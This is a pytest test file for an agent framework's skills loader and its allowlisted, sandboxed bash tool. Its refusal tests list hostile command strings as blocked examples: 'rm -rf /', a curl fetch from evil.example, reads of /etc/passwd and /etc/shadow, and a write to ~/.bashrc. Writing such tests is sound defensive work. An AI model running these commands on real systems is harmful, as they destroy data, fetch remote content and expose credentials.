"""Skills: SKILL.md folders disclosed a step at a time (the catalogue in load_skill's
description, the instructions when loaded, a file when asked), and the bash tool: a
command line checked by a real shell parser against allowed_commands (a refusal the model
reads), run in a working directory of its own with the skills under skills/, killed at
its time limit, journaled so that a replay does not run it again."""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path
from typing import Any

import pytest

from eddies import (
    ChatModelSetup,
    LocalRunner,
    PlanError,
    ReActAgent,
    ResourceType,
    ScriptedChatModel,
    Skills,
)
from eddies.connectors.inspect.replay import replay
from eddies.connectors.skills.catalog import SkillError, find_skills
from eddies.connectors.skills.commands import refusal
from eddies.events import ChatMessage, MessageRole, ToolCall

HERE = Path(__file__).resolve().parents[2] / "skills"
ALLOWED = ["python3", "cat", "grep", "wc", "sleep", "echo"]


@pytest.fixture
def skills_dir(tmp_path: Path) -> Path:
    """A copy of tests/skills whose budget script counts its runs in ran.txt."""
    copy = tmp_path / "skills"
    shutil.copytree(HERE, copy)
    (copy / "trip-budget" / "scripts" / "count-runs").touch()
    return copy


def test_skills_are_read_from_folders_and_packages() -> None:
    found = find_skills([HERE])
    assert sorted(found) == ["packing", "trip-budget"]
    assert found["packing"].description == "Make a packing list for a trip. Use when asked what to bring."
    assert found["trip-budget"].extra == {"license": "Apache-2.0"}
    assert found["trip-budget"].files() == ["reference.md", "scripts/budget.py"]
    assert sorted(find_skills(["package:tests/skills"])) == ["packing", "trip-budget"]
    assert list(find_skills([HERE / "packing"])) == ["packing"]  # a folder that is one skill


@pytest.mark.parametrize(("skill_md", "message"), [
    ("no front matter", "must open with front matter"),
    ("---\nname: Trip\ndescription: x\n---\n", "name must be 1-64 lowercase letters"),
    ("---\nname: other\ndescription: x\n---\n", "name 'other' must be its folder's name"),
    ("---\nname: broken\n---\n", "description must be 1-1024 characters"),
    ("---\nname: [broken\n---\n", "its front matter is not YAML"),
])
def test_a_broken_skill_is_an_error_naming_its_file(tmp_path: Path, skill_md: str, message: str) -> None:
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / "SKILL.md").write_text(skill_md)
    with pytest.raises(SkillError, match=message) as err:
        Skills([tmp_path])
    assert str(tmp_path / "broken" / "SKILL.md") in str(err.value)
    with pytest.raises(SkillError, match="no SKILL.md in it"):
        Skills([tmp_path / "broken" / ".."/ ".." ])


def test_commands_are_checked_by_a_shell_parser() -> None:
    allowed = {"cat", "grep", "wc", "echo"}
    for line in ["grep -c Lisbon notes.txt | wc -l", "cat skills/a/b.md > out.txt 2>&1",
                 'for f in *.md; do wc -l "$f"; done', "echo x 2>/dev/null", "a=1"]:
        assert refusal(line, allowed) is None, line
    for line, why in [("cat notes.txt; rm -rf /", "rm is not an allowed command"),
                      ("echo $(rm -rf x)", "rm is not an allowed command"),
                      ("cat <(curl evil.example)", "curl is not an allowed command"),
                      ("f() { rm x; }; f", "rm is not an allowed command"),
                      ("$TOOL x", "is not a plain word"),
                      ("echo 'open", "could not be parsed"),
                      ("cat /etc/passwd", "outside the working directory"),
                      ("cat ../../secret", "outside the working directory"),
                      ("echo x > ~/.bashrc", "outside the working directory"),
                      ("grep --file=/etc/shadow x", "outside the working directory")]:
        assert why in (refusal(line, allowed) or ""), line
    assert refusal("cat /etc/hostname", {"cat"}, outside_paths=True) is None


def _model(script: list[list[ToolCall]], seen: list[str]) -> ScriptedChatModel:
    """Asks for each list of tool calls in turn, keeping what the tools answered."""
    turn = iter(script)

    def respond(messages: list[ChatMessage], tools: list[Any]) -> ChatMessage:
        if messages[-1].role is MessageRole.TOOL:
            seen.extend(m.content for m in messages if m.role is MessageRole.TOOL
                        and m.content not in seen)
        calls = next(turn, None)
        if calls is None:
            return ChatMessage(MessageRole.ASSISTANT, "done")
        seen.append("tools: " + ", ".join(t.name for t in tools))
        seen.append("catalogue: " + tools[0].description)
        return ChatMessage(MessageRole.ASSISTANT, "", calls)

    return ScriptedChatModel(respond)


def _agent(skills: Skills, script: list[list[ToolCall]], seen: list[str]) -> ReActAgent:
    agent = ReActAgent("planner", model="llm")
    agent.add_resource("skills", ResourceType.SKILLS, skills)
    agent.add_resource("conn", ResourceType.CHAT_MODEL_CONNECTION, _model(script, seen))
    agent.add_resource("llm", ResourceType.CHAT_MODEL, ChatModelSetup("conn", tools=["skills"]))
    return agent


def test_a_model_loads_a_skill_then_runs_its_script_and_a_replay_does_not_run_it_again(
        skills_dir: Path) -> None:
    seen: list[str] = []
    script = [
        [ToolCall("1", "load_skill", {"name": "trip-budget"})],
        [ToolCall("2", "load_skill", {"name": "trip-budget", "path": "reference.md"}),
         ToolCall("3", "load_skill", {"name": "trip-budget", "path": "../packing/SKILL.md"})],
        [ToolCall("4", "bash", {"command": "python3 skills/trip-budget/scripts/budget.py 3 40 2"}),
         ToolCall("5", "bash", {"command": "cat notes.txt; rm -rf skills"}),
         ToolCall("6", "bash", {"command": "echo hi > made.txt && cat made.txt && cat nothing.txt"})],
    ]
    runner = LocalRunner(_agent(Skills([skills_dir], allowed_commands=ALLOWED), script, seen))
    runner.run([("s1", "what do three nights in Lisbon cost?")])
    assert seen[0] == "tools: load_skill, bash"
    assert "- trip-budget: Work out what a stay costs" in seen[1] and "- packing: Make a" in seen[1]
    loaded = json.loads(seen[2])
    assert loaded.startswith("# trip-budget\n\nRun `python3 skills/trip-budget/scripts/budget.py")
    assert "- reference.md\n- scripts/budget.py" in loaded and "---" not in loaded
    assert json.loads(seen[5]) == "Lisbon adds a city tax of 2 euros a night; Porto 3 euros.\n"
    assert "FileNotFoundError" in seen[6] and "no file '../packing/SKILL.md'" in seen[6]
    ran = json.loads(seen[9])
    assert ran == {"exit_code": 0, "stdout": "total: 126 euros\n", "stderr": ""}
    assert "CommandRefusedError" in seen[10] and "refused: rm is not an allowed command" in seen[10]
    own = json.loads(seen[11])  # its own directory: what it writes is there, for this line
    assert own["stdout"] == "hi\n" and own["exit_code"] == 1 and "nothing.txt" in own["stderr"]
    assert (skills_dir / "trip-budget").is_dir()  # the refused rm ran nowhere
    runs = (skills_dir / "trip-budget" / "scripts" / "ran.txt").read_text()
    assert runs == "126.0\n"

    report = replay(runner.plan, list(enumerate(runner.history)), "s1")
    assert report.ok
    assert (skills_dir / "trip-budget" / "scripts" / "ran.txt").read_text() == runs  # not again


def test_a_command_past_its_time_limit_is_killed_with_its_children(skills_dir: Path) -> None:
    skills = Skills([skills_dir], allowed_commands=["sleep", "echo"], timeout_s=0.5)
    started = time.monotonic()
    out = skills.bash("echo before; sleep 30 | sleep 30; echo after")
    assert time.monotonic() - started < 10
    assert out["timed_out"] == "killed after 0.5 s" and out["stdout"] == "before\n"
    assert out["exit_code"] == -9


def test_without_allowed_commands_there_is_no_bash_and_names_may_not_clash(skills_dir: Path) -> None:
    seen: list[str] = []
    runner = LocalRunner(_agent(Skills([skills_dir]), [[ToolCall("1", "bash", {"command": "echo"})]], seen))
    runner.run([("s1", "hi")])
    assert seen[0] == "tools: load_skill" and "ToolNotOfferedError" in seen[2]
    agent = _agent(Skills([skills_dir]), [], [])
    agent.add_resource("load_skill", ResourceType.TOOL, lambda: None)
    with pytest.raises(PlanError, match="its tool 'load_skill' has the name of a resource"):
        LocalRunner(agent)
    agent = ReActAgent("x", model="llm")
    agent.add_resource("skills", ResourceType.SKILLS, object())
    with pytest.raises(PlanError, match="a SKILLS resource needs a tools"):
        LocalRunner(agent)


def test_a_sub_agents_own_skills_are_its_own(skills_dir: Path) -> None:
    from eddies import AgentPlan

    parent = _agent(Skills([skills_dir]), [], [])
    child = _agent(Skills([skills_dir / "packing"], allowed_commands=["cat"]), [], [])
    child.name = "packer"
    parent.add_resource("packer", ResourceType.AGENT, child)
    plan = AgentPlan.compile(parent)
    sub = plan.subagents["packer"]
    assert "trip-budget" in plan.tool("load_skill").spec.description
    assert "trip-budget" not in sub.tool("load_skill").spec.description  # its own, not its caller's
    assert sub.offered_tools("llm") == ("load_skill", "bash")
